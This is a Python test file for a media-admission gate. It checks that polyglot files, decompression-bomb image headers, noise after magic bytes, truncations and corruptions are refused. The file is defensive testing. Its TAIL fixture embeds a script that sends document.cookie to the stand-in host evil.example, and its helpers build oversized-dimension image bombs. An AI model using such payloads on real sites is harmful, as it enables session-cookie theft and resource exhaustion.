"""Media is admitted only when its whole structure parses as its type, not when its first bytes
match: an attacker who read ``_media.sniff`` writes the right magic bytes and then anything —
an HTML or script tail after the end marker (a polyglot), a header declaring enormous
dimensions in a few bytes (a decompression bomb), a signature followed by noise, a truncated
or corrupted file. Every such item is summarised, never sent, at the gate and again at the
adapters; the check never raises and takes time linear in the size.

Real files: CPython's test images and sound (``media_samples/``), and an MP3 built frame by
frame.
"""

from __future__ import annotations

import random
import struct
import zlib
from pathlib import Path

import pytest

from anfitrion._conversation import Media, ToolResult
from anfitrion._media import KNOWN_TYPES, MediaSettings, admit, split
from anfitrion._media_structure import MAX_PIXELS, MAX_SIDE, structure_problem

SAMPLES = Path(__file__).with_name("media_samples")
EVERY = MediaSettings(types=KNOWN_TYPES)
TAIL = b"<html><script>fetch('https://evil.example/?'+document.cookie)</script></html>"


def mp3(frames: int = 6) -> bytes:
    """MPEG-1 layer III, 128 kbit/s, 44.1 kHz: 417-byte frames, behind an ID3v2 tag."""
    tag = b"ID3\x04\x00\x00" + bytes([0, 0, 0, 10]) + bytes(10)
    return tag + (b"\xff\xfb\x90\x64" + bytes(413)) * frames


REAL = {
    "image/png": (SAMPLES / "python.png").read_bytes(),
    "image/jpeg": (SAMPLES / "python.jpg").read_bytes(),
    "image/gif": (SAMPLES / "python.gif").read_bytes(),
    "image/webp": (SAMPLES / "python.webp").read_bytes(),
    "audio/wav": (SAMPLES / "pluck-pcm16.wav").read_bytes(),
    "audio/mpeg": mp3(),
}


def refused(mime: str, data: bytes) -> str:
    admitted, shown = admit([Media(mime, data)], EVERY)
    assert admitted == () and len(shown) == 1
    return shown[0]


def test_real_files_of_every_admissible_type_are_admitted() -> None:
    assert set(REAL) == KNOWN_TYPES
    for mime, data in REAL.items():
        assert structure_problem(mime, data) is None, mime
        admitted, shown = admit([Media(mime, data)], EVERY)
        assert shown == [] and admitted == (Media(mime, data),)


@pytest.mark.parametrize("mime", sorted(REAL))
def test_anything_after_the_end_is_refused(mime: str) -> None:
    for tail in (TAIL, b"\x00", b"GIF89a", REAL[mime]):
        assert "not a well-formed" in refused(mime, REAL[mime] + tail)


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + \
        struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def _png_declaring(width: int, height: int) -> bytes:
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height,
                                                                    8, 2, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + _png_chunk(b"IEND", b""))


def _bombs() -> list[tuple[str, bytes]]:
    gif = bytearray(REAL["image/gif"])
    gif[6:10] = struct.pack("<HH", 65535, 65535)
    jpeg = bytearray(REAL["image/jpeg"])
    sof = next(i for i in range(len(jpeg) - 1) if jpeg[i] == 0xFF and jpeg[i + 1] in (0xC0, 0xC2))
    jpeg[sof + 5:sof + 9] = struct.pack(">HH", 60000, 60000)
    webp = b"RIFF" + struct.pack("<I", 4 + 8 + 10 + 8 + 6) + b"WEBP" + b"VP8X" + \
        struct.pack("<I", 10) + bytes(4) + (30000).to_bytes(3, "little") * 2 + \
        b"VP8L" + struct.pack("<I", 6) + b"\x2f" + bytes(5)
    return [("image/png", _png_declaring(100_000, 100_000)),
            ("image/png", _png_declaring(MAX_SIDE, MAX_SIDE)),  # each side fits, not the area
            ("image/png", _png_declaring(MAX_SIDE + 1, 1)),
            ("image/gif", bytes(gif)), ("image/jpeg", bytes(jpeg)), ("image/webp", webp)]


def test_a_header_declaring_enormous_dimensions_is_refused() -> None:
    assert MAX_SIDE * MAX_SIDE > MAX_PIXELS
    for mime, data in _bombs():
        assert len(data) < 4096
        line = refused(mime, data)
        assert "over the limit" in line, (mime, line)


def test_a_signature_followed_by_anything_is_refused() -> None:
    signatures = {"image/png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
                  "image/jpeg": b"\xff\xd8\xff", "image/gif": b"GIF89a",
                  "image/webp": b"RIFF\x00\x00\x00\x00WEBP", "audio/wav": b"RIFF\0\0\0\0WAVE",
                  "audio/mpeg": b"ID3"}
    rng = random.Random(35)
    for mime, magic in signatures.items():
        for _ in range(300):
            noise = rng.randbytes(rng.randrange(0, 600))
            assert structure_problem(mime, magic + noise) is not None, (mime, noise)


@pytest.mark.parametrize("mime", sorted(REAL))
def test_every_truncation_is_refused(mime: str) -> None:
    data = REAL[mime]
    step = max(1, len(data) // 400)
    for cut in range(0, len(data), step):
        assert structure_problem(mime, data[:cut]) is not None, (mime, cut)


@pytest.mark.parametrize("mime", sorted(REAL))
def test_corrupting_any_byte_never_raises(mime: str) -> None:
    data = REAL[mime]
    rng = random.Random(mime)
    for _ in range(400):
        corrupt = bytearray(data)
        corrupt[rng.randrange(len(data))] = rng.randrange(256)
        problem = structure_problem(mime, bytes(corrupt))
        assert problem is None or isinstance(problem, str)


def test_the_adapters_check_the_structure_again() -> None:
    """Media that reached a result without the gate (a stored session, a custom step) is
    summarised on the way to a model too."""
    result = ToolResult("c1", "t", "", media=(Media("image/png", REAL["image/png"] + TAIL),
                                               Media("image/png", REAL["image/png"])))
    text, sent = split(result, frozenset(KNOWN_TYPES))
    assert sent == (Media("image/png", REAL["image/png"]),)
    assert "not shown" in text
